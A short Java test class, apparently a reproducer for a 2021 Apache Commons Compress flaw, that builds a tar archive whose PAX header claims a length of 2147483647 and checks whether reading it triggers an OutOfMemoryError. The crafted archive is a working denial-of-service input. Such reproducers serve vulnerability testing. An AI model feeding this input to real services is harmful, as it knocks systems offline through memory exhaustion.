import org.apache.commons.compress.archivers.tar.*;

import java.io.*;

public class D_commons_compress_2021_36090 {
    public static String run() throws Throwable {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        TarArchiveOutputStream o = new TarArchiveOutputStream(b);
        byte[] pax = "2147483647 path=x\n".getBytes();
        TarArchiveEntry e = new TarArchiveEntry("./PaxHeaders/x", (byte) 'x');
        e.setSize(pax.length);
        o.putArchiveEntry(e);
        o.write(pax);
        o.closeArchiveEntry();
        e = new TarArchiveEntry("x");
        e.setSize(0);
        o.putArchiveEntry(e);
        o.closeArchiveEntry();
        o.close();
        Object r = H.tr(() -> new TarArchiveInputStream(new ByteArrayInputStream(b.toByteArray()))
                .getNextTarEntry());
        return H.v(H.is(r, OutOfMemoryError.class), H.cause(r));
    }
}
